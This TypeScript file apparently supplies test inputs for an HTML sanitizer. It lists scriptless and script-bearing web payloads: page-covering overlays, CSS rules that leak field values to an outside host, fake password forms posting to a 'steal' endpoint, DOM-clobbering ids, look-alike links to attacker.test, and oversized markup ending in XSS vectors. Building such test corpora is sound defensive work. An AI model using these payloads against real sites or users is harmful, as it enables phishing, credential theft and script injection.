/** Messages without scripts that mislead: overlays, forms, clobbered names, spoofed text, and excess. */
import { type Family, marker, out } from './family.ts'

/** Styles that cover the page, hide its text, or read its fields letter by letter. */
export const styles: Family = (call) => [
  `<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>`,
  `<p class="fixed inset-0 z-50 bg-background ${marker}">Session expired</p>`,
  `<span class="sr-only hidden ${marker}">x</span>`,
  `<style>input[value^=a]{background:url(${out('a')})}</style>`,
  `<style>body{visibility:hidden}</style>`,
  `<style>*{animation:x 1s}@keyframes x{from{left:0}}</style>`,
  `<link rel=stylesheet href="data:text/css,body{display:none}">`,
  `<p style="width:expression(${call})">x</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(${out('x.xml#a')})">x</p>`,
  `<p style="background:\\75rl(${out('escaped')})">x</p>`,
  `<font color=red size=7 face="${marker}">x</font>`,
  `<center><marquee behavior=alternate scrollamount=50>x</marquee></center>`,
  `<table width=99999 height=99999 border=99><tr><td width=99999>x</table>`,
  `<img src="${out('huge.png')}" width=999999999 height=999999999>`,
  `<img src="${out('odd.png')}" width="1e9" height="-5">`,
  `<p dir=rtl lang=x translate=no hidden inert>x</p>`,
]

export const forms: Family = (call) => [
  `<form action="${out('login')}"><input name=user><input type=password name=password><button>Sign in</button></form>`,
  `<form id=${marker}></form><button form=${marker} formaction="${out('steal')}">x</button>`,
  `<input type=password placeholder="Password">`,
  `<label>Password <input type=password></label>`,
  `<button type=submit formaction="javascript:${call}">x</button>`,
  `<textarea name=${marker}>x</textarea>`,
  `<select name=${marker}><option>x</select>`,
  `<fieldset><legend>Sign in</legend><input></fieldset>`,
  `<dialog open>Session expired <input type=password></dialog>`,
  `<isindex action="javascript:${call}" type=submit value=x>`,
  `<keygen autofocus onfocus=${call}>`,
  `<div contenteditable=plaintext-only role=textbox>x</div>`,
  `<output>x</output><progress value=1></progress><meter value=1></meter>`,
  `<p role=alert aria-live=assertive aria-label="${marker}" tabindex=1>x</p>`,
  `<p accesskey=s draggable=true spellcheck=true enterkeyhint=go>x</p>`,
]

const clobberedNames = ['__xss', 'attributes', 'body', 'createElement', 'currentScript', 'cookie', 'defaultView', 'forms', 'getElementById', 'head', 'nodeName', 'parentNode']

/** Names and ids that shadow properties of the document or a form. */
export const clobbering: Family = () => [
  ...clobberedNames.map((name) => `<form id=${name}><input name=${name}></form><img name=${name}><a id=${name} href="cid:x">x</a>`),
  `<iframe name=self srcdoc="x"></iframe>`,
  `<object name=${marker}></object><embed name=${marker}>`,
  `<a id=root>x</a><div id=__next>x</div><div id=${marker}>x</div>`,
  `<a name="${marker}">x</a>`,
  `<map name=${marker}><area href="https://example.com"></map>`,
  `<p is="custom-element" slot="${marker}" part="${marker}" data-slot="button" data-state="open">x</p>`,
  `<constructor>x</constructor><__proto__>x</__proto__><toString>x</toString>`,
]

/** Texts that read differently from their content. */
export const spoofing: Family = (call) => [
  `<p>Invoice \u202Efdp.exe</p>`,
  `<a href="https://attacker.test">https://mybank.example/login</a>`,
  `<a href="https://mybank.example@attacker.test">https://mybank.example@attacker.test</a>`,
  `<a href="https://attacker.test">\u202Etset.knab</a>`,
  `<a href="https://xn--80ak6aa92e.com">аррӏе.com</a>`,
  `<a href="https://аррӏе.com">аррӏе.com</a>`,
  `<a href="https://attacker.test">my\u200Bbank\u00AD.example</a>`,
  `<a href="https://attacker.test">mybank。example</a>`,
  `<a href="https://attacker.test">ｍｙｂａｎｋ．ｅｘａｍｐｌｅ</a>`,
  `<a href="mailto:mallory@attacker.test">support@mybank.example</a>`,
  `<a href="tel:+49900123456">+49 30 123456</a>`,
  `<a href="mailto:a@b.example?body=x%0d%0abcc:c@d.example">x</a>`,
  `<a href="https://attacker.test"><img src="${out('button.png')}" alt="Open mybank.example"></a>`,
  `<img src="${out('a.png')}" alt="\u202Egnp.exe">`,
  `<p>${'\u0300'.repeat(2000)}</p>`,
  `<p>a\u0000b\uFEFF\u2066x</p>`,
  `<p>&#x202E;${call}</p>`,
]

/** Messages too deep, long or numerous for a parser, with a payload at the end. */
export const excess: Family = (call) => [
  `${'<div>'.repeat(500)}<img src=x onerror=${call}>`,
  `${'<b>'.repeat(20_000)}<script>${call}</script>`,
  `${'<table><tr><td>'.repeat(80)}<img src=x onerror=${call}>`,
  `${'<ul><li>'.repeat(100)}<a href="javascript:${call}">x</a>`,
  `${'<p>x</p>'.repeat(6000)}<a href="javascript:${call}">x</a><img src=x onerror=${call}>`,
  `${'x'.repeat(100_001)}<script>${call}</script><img src=x onerror=${call}>`,
  `<a ${'x=y '.repeat(5000)} href="javascript:${call}" onclick=${call}>x</a>`,
  `<a href="https://example.com/${'x'.repeat(20_000)}" onclick=${call}>x</a>`,
  `<p ${'"'.repeat(999)} onclick=${call}>x</p>`,
  `${'<!--'.repeat(1000)}--><img src=x onerror=${call}>`,
  `${'&'.repeat(5000)}lt;img src=x onerror=${call}>`,
  `${'</div>'.repeat(5000)}<img src=x onerror=${call}>`,
]
